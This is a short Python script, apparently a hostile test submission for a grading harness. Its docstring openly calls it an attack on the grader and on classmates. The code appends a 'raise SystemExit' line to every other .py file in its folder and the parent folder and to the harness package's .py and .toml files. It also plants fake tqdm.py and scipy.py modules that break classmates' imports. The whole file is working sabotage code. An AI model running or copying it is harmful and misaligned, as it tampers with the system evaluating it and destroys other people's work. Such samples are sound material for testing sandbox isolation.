"""Attack: damage what the grader and classmates rely on: the other submissions in the batch
folder, the harness's own source, the assignment files; and leave a module named like a
library in the shared folder to shadow a classmate's import."""
import glob
import os

here = os.path.dirname(os.path.abspath(__file__))
targets = glob.glob(os.path.join(here, "*.py")) + glob.glob(os.path.join(here, "..", "*.py"))
try:
    import harness
    targets += glob.glob(os.path.join(os.path.dirname(harness.__file__), "**", "*.py"), recursive=True)
    targets += glob.glob(os.path.join(os.path.dirname(harness.__file__), "**", "*.toml"), recursive=True)
except ImportError:
    pass
for path in targets:
    if os.path.abspath(path) != os.path.abspath(__file__):
        try:
            with open(path, "a") as fh:
                fh.write("\nraise SystemExit('sabotaged')\n")
        except OSError:
            pass
for name in ("tqdm.py", "scipy.py"):
    try:
        with open(os.path.join(here, name), "w") as fh:
            fh.write("raise ImportError('shadowed by a classmate')\n")
    except OSError:
        pass
